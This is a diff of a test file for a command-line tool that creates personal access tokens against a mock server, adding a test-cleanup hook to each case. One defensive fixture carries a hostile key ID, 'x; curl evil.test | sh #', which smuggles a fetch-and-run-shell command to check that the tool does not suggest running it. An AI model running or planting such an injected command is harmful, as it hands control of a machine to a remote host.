@@ -16,8 +16,8 @@ describe.concurrent("an API that does not offer it", () => {
     [[405, {}]],
     [[501, {}]],
     [[403, { message: "Missing Authentication Token" }]],
-  ])("says so of signing in with a password (%j)", async ([answer], { expect }) => {
-    const { env } = await startScripted({ "POST /login": answer })
+  ])("says so of signing in with a password (%j)", async ([answer], { expect, onTestFinished }) => {
+    const { env } = await startScripted({ "POST /login": answer }, onTestFinished)
     const { ZPOOLPAT: _, ...rest } = env
     const ran = await runCli(["hello"], {
       env: { ...rest, ...compileCache, ZPOOL_USER: "ada", ZPOOL_PASSWORD: "secret" },
@@ -32,8 +32,8 @@ describe.concurrent("an API that does not offer it", () => {
     [[405, {}]],
     [[501, {}]],
     [[403, { message: "Missing Authentication Token" }]],
-  ])("says so of making PATs, with the page that does (%j)", async ([answer], { expect }) => {
-    const { env } = await startScripted({ "POST /pat": answer })
+  ])("says so of making PATs, with the page that does (%j)", async ([answer], { expect, onTestFinished }) => {
+    const { env } = await startScripted({ "POST /pat": answer }, onTestFinished)
     const ran = await runCli([...create, "--json"], { env: { ...env, ...compileCache } })
     expect(ran).toMatchObject({ code: 1, stdout: "" })
     const { error } = JSON.parse(ran.stderr)
@@ -50,8 +50,8 @@ describe.concurrent("an API that does not offer it", () => {
     expect(stderr).toContain("does not offer making PATs")
   })
 
-  it("does not take a page that blocks us for a missing scope", async ({ expect }) => {
-    const { env } = await startScripted({ "POST /pat": [403, "<html>Blocked</html>"] })
+  it("does not take a page that blocks us for a missing scope", async ({ expect, onTestFinished }) => {
+    const { env } = await startScripted({ "POST /pat": [403, "<html>Blocked</html>"] }, onTestFinished)
     const ran = await runCli(create, { env: { ...env, ...compileCache } })
     expect(ran).toMatchObject({ code: 4, stdout: "" })
     expect(ran.stderr).not.toContain("scope pat")
@@ -63,20 +63,26 @@ describe.concurrent("a create that is answered", () => {
     ["without a token", undefined],
     ["with null", null],
     ["with a token that a header can't hold", "zpat_two words\n"],
-  ])("%s names the PAT that came", async ([, token], { expect }) => {
-    const { env, requests } = await startScripted({
-      "POST /pat": [201, { message: "PAT created", detail: { key_id: id, token } }],
-    })
+  ])("%s names the PAT that came", async ([, token], { expect, onTestFinished }) => {
+    const { env, requests } = await startScripted(
+      {
+        "POST /pat": [201, { message: "PAT created", detail: { key_id: id, token } }],
+      },
+      onTestFinished,
+    )
     const ran = await runCli([...create, "--json"], { env: { ...env, ...compileCache } })
     expect(ran).toMatchObject({ code: 7, stdout: "" })
     expect(JSON.parse(ran.stderr).error).toMatchObject({ type: "OutcomeUnknown", keyId: id, exitCode: 7 })
     expect(requests).toEqual(["POST /pat"])
   })
 
-  it("with a hostile key ID suggests nothing to run with it", async ({ expect }) => {
-    const { env } = await startScripted({
-      "POST /pat": [201, { message: "ok", detail: { key_id: "x; curl evil.test | sh #" } }],
-    })
+  it("with a hostile key ID suggests nothing to run with it", async ({ expect, onTestFinished }) => {
+    const { env } = await startScripted(
+      {
+        "POST /pat": [201, { message: "ok", detail: { key_id: "x; curl evil.test | sh #" } }],
+      },
+      onTestFinished,
+    )
     const ran = await runCli(create, { env: { ...env, ...compileCache } })
     expect(ran.code).toBe(7)
     expect(ran.stderr).not.toContain("revoke x; curl")
